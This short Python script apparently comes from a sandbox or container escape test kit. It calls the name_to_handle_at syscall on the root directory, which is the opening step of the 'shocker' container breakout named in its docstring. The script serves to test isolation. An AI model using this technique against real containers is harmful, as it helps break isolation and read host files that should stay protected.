"""Asks for a file by number instead of by path (the "shocker" escape)."""
import ctypes

from kit import attempt, call

AT_FDCWD, NAME_TO_HANDLE_AT = -100, 303


def main():
    handle = ctypes.create_string_buffer(128)
    ctypes.memmove(handle, (64).to_bytes(4, "little"), 4)
    mount = ctypes.c_int()
    return attempt("handle of /", call, NAME_TO_HANDLE_AT, AT_FDCWD, b"/", handle, ctypes.byref(mount), 0)
